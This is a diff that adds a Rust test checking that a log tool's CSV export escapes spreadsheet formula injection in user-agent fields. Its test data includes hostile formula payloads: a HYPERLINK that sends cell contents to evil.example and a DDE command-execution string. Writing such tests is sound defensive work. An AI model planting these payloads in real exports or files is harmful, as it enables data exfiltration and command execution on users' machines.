@@ -73,3 +73,41 @@ fn report_md_values_cannot_become_markup() {
     let html = std::fs::read_to_string(rep.join("report.html")).unwrap();
     assert!(!html.contains("<img") && html.contains("&lt;img"), "escaped in HTML");
 }
+
+/// `export --csv` is opened in spreadsheets: a user agent, path or request
+/// id that starts like a formula (`=`, `+`, `-`, `@`) stays text there.
+#[test]
+fn csv_cells_cannot_be_formulas() {
+    let dir = common::tempdir();
+    let log = dir.path().join("f.ndjson");
+    let claims = r#","jwt":{"iss":"https://idp.acme.example","jti":"csv-1","sub":"alice","exp":1893456000}"#;
+    let evil = [r#"=HYPERLINK(\"http://evil.example/?\"&A1)"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"];
+    let lines: Vec<String> = evil
+        .iter()
+        .enumerate()
+        .map(|(i, ua)| {
+            kong(1_793_600_000_000 + i as u64 * 1000, "198.18.1.23", "REDACTED", 200, claims)
+                .replace("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", ua)
+        })
+        .collect();
+    std::fs::write(&log, lines.join("\n")).unwrap();
+    let (pq, csv) = (dir.path().join("e.parquet"), dir.path().join("e.csv"));
+    let o = common::bin()
+        .args(["export", "--profile", "kong", "--parquet", pq.to_str().unwrap(), "--csv", csv.to_str().unwrap()])
+        .arg(&log)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", common::text(&o.stderr));
+    let text = std::fs::read_to_string(&csv).unwrap();
+    let mut seen = 0;
+    for line in text.lines().skip(1) {
+        for cell in line.split(',') {
+            let c = cell.trim_start_matches('"');
+            assert!(!matches!(c.as_bytes().first(), Some(b'=' | b'+' | b'@')), "formula cell {cell:?} in {line}");
+            if c.starts_with("'=") || c.starts_with("'+") || c.starts_with("'-2") || c.starts_with("'@") {
+                seen += 1;
+            }
+        }
+    }
+    assert_eq!(seen, 4, "every hostile user agent kept, as text: {text}");
+}
